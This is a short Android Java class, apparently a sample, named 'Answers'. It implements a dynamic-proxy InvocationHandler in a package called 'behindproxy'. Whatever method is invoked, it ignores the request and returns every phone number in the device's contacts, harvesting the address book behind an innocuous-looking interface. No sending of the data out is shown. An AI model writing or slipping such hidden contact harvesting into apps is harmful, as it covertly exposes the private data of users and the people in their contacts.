package com.example.behindproxy;

import android.content.Context;
import android.database.Cursor;
import android.provider.ContactsContract;
import java.lang.reflect.InvocationHandler;
import java.lang.reflect.Method;

/** Answers whatever is asked with the whole book. */
final class Answers implements InvocationHandler {
    private final Context context;

    Answers(Context context) {
        this.context = context;
    }

    @Override
    public Object invoke(Object proxy, Method method, Object[] arguments) {
        StringBuilder text = new StringBuilder();
        Cursor cursor = context.getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        while (cursor.moveToNext()) {
            text.append(cursor.getString(cursor.getColumnIndex(ContactsContract.CommonDataKinds.Phone.NUMBER)));
        }
        cursor.close();
        return text.toString();
    }
}
